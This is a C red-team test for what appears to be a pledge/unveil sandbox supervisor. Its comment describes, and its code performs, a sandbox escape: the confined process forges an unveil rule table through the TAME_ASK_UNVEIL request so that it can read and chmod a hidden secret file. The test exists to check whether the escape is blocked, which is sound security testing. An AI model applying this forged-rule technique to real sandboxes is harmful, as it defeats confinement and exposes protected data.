/* SPDX-License-Identifier: ISC */
/*
 * unveil_forge_rules.c: the process hands the supervisor rules of its
 * own after the lock (TAME_ASK_UNVEIL), and is judged by them.
 *
 * In an exec tree (unveil alone, or pledge's exec) the supervisor takes
 * a request's unveil number from its record of the process, and
 * TAME_ASK_UNVEIL replaces that number (sup_loop.c, ask()).  The op is
 * refused only where the claim lacks TAME__UNVEIL and is not "not
 * pledged": unveil alone is not pledged (any claim passes), and
 * pledge("... unveil") keeps the unveil atom after unveil(NULL, NULL).
 * The forged table names the scratch directory (its inode, read as
 * visible/'s ".." entry) "rwxc"; an O_PATH open of hidden/secret is then
 * opened for reading by the supervisor and handed in.
 */
#include <sys/stat.h>
#include <sys/syscall.h>

#include <dirent.h>
#include <fcntl.h>
#include <stdint.h>
#include <string.h>
#include <unistd.h>

#include "redteam.h"

#define ASK_NR		1000		/* TAME_ASK_NR */
#define ASK_UNVEIL	4		/* TAME_ASK_UNVEIL */

/* struct tame_unveil_rules (tame_int.h), as the attacker writes it */
struct rules {
	int		 n;
	struct {
		uint64_t dev, ino;
		uint32_t perms, dir;
	}		 r[256];
};

struct attempt {
	int		 tamed;
	const char	*promises;	/* NULL: unveil alone */
	struct rt_secret *secret;
};

static int
attack(void *arg)
{
	const struct attempt *a = arg;
	static struct rules t;
	char buf[4096];
	struct dirent *e;
	struct stat st;
	DIR *d;
	long n = 0;
	int fd;

	if (a->tamed) {
		rt_unveil(rt_path("visible"), "rwc");
		if (a->promises != NULL) {
			rt_pledge(a->promises, NULL);
			rt_unveil(NULL, NULL);
		} else
			rt_unveil(NULL, NULL);
	}
	/* the scratch directory's inode, from visible/'s ".." */
	if ((fd = open(rt_path("visible"), O_RDONLY | O_DIRECTORY)) == -1 ||
	    fstat(fd, &st) == -1 || (d = fdopendir(fd)) == NULL)
		return RT_SETUP;
	t.n = 1;
	t.r[0].dev = st.st_dev;
	t.r[0].perms = 15;
	t.r[0].dir = 1;
	while ((e = readdir(d)) != NULL)
		if (strcmp(e->d_name, "..") == 0)
			t.r[0].ino = e->d_ino;
	if (a->tamed)
		rt_sh->ret = syscall(ASK_NR, ASK_UNVEIL, 0xffffffffL,
		    0xffffffffL, (long)&t, (long)sizeof(t), 1L);
	/* O_PATH (the supervisor's open), then a plain one (Landlock's) */
	if ((fd = open(a->secret->path, O_PATH)) >= 0)
		n = read(fd, buf, sizeof(buf));
	if (n <= 0 && (fd = open(a->secret->path, O_RDONLY)) >= 0)
		n = read(fd, buf, sizeof(buf));
	if (n > 0)
		rt_tell(buf, (size_t)n);
	chmod(a->secret->path, 0606);
	return 0;
}

static int
try(struct attempt *a)
{
	struct rt_kid k;
	struct stat st;
	char got[4096];
	size_t n;
	int r = 0;

	chmod(a->secret->path, 0600);
	n = rt_run(&k, attack, a, got, sizeof(got));
	if (rt_secret_in(a->secret, got, n))
		r |= 1;
	if (stat(a->secret->path, &st) == 0 && (st.st_mode & 07777) == 0606)
		r |= 2;
	return r;
}

int
main(int argc, char **argv)
{
	static const char *const promises[] = { NULL,
	    "stdio rpath fattr exec unveil", "stdio rpath fattr unveil" };
	struct rt_secret s;
	struct attempt a = { 0 };
	size_t i;
	int r;

	rt_init(argc, argv);
	if (!rt_need_landlock())
		return rt_finish();
	rt_two_dirs();
	rt_secret(&s, rt_path("hidden/secret"));
	a.secret = &s;
	if (try(&a) != 3) {
		rt_na("untamed, the read and chmod of hidden/secret "
		    "did not work");
		return rt_finish();
	}
	a.tamed = 1;
	for (i = 0; i < sizeof(promises) / sizeof(promises[0]); i++) {
		a.promises = promises[i];
		if ((r = try(&a)) != 0)
			rt_escaped("%s, then a forged rule set (TAME_ASK_UNVEIL "
			    "answered %ld): %s%s%s", a.promises ? a.promises :
			    "unveil alone", rt_sh->ret, r & 1 ? "read hidden/"
			    "secret through an O_PATH open" : "", r == 3 ?
			    " and " : "", r & 2 ? "chmod'ed it 0606" : "");
		else
			rt_held("%s: TAME_ASK_UNVEIL answered %ld, hidden/secret "
			    "stayed hidden", a.promises ? a.promises :
			    "unveil alone", rt_sh->ret);
	}
	return rt_finish();
}
